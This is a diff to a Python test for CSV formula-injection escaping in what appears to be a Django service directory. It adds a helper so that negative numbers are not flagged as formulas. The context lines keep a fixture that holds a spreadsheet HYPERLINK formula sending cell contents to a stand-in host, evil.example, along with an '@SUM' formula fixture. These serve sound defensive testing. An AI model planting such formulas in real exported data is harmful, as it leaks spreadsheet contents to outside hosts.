@@ -17,6 +17,15 @@ NAME = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
 DESCRIPTION = "@SUM(A1:A9) +57 300 000 0000"
 
 
+def number(value: str) -> bool:
+    """A number written as one (a longitude of -77.7): a number, not a formula, so not quoted."""
+    try:
+        float(value)
+    except ValueError:
+        return False
+    return True
+
+
 def test_formula_text_is_quoted_in_the_csv_and_read_back_unquoted(tmp_path):
     service = Service.objects.order_by("pk").first()
     Service.objects.filter(pk=service.pk).update(name_es=NAME, name_pt=NAME, name_en=NAME,
@@ -29,7 +38,7 @@ def test_formula_text_is_quoted_in_the_csv_and_read_back_unquoted(tmp_path):
     for path in tmp_path.glob("*.csv"):
         with path.open(newline="", encoding="utf-8") as handle:
             assert not [value for row in csv.reader(handle) for value in row
-                        if value.startswith(("=", "+", "-", "@", "\t", "\r"))], path.name
+                        if value.startswith(("=", "+", "-", "@", "\t", "\r")) and not number(value)], path.name
 
     (tmp_path / "services.json").unlink()
     [record] = [record for record in read_package(tmp_path) if record["id"] == str(service.hsds_id)]
